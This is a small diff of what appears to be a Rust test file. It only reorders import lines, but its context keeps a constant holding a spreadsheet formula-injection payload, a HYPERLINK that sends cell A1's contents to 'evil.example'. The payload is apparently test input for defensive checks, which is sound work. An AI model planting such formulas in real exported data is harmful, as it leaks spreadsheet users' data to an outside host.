@@ -4,8 +4,8 @@
 use std::path::Path;
 use std::time::Duration;
 
-use serde_json::{Value, json};
 use crate::support::*;
+use serde_json::{Value, json};
 
 /// Text a spreadsheet would run, or a terminal would act on.
 const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
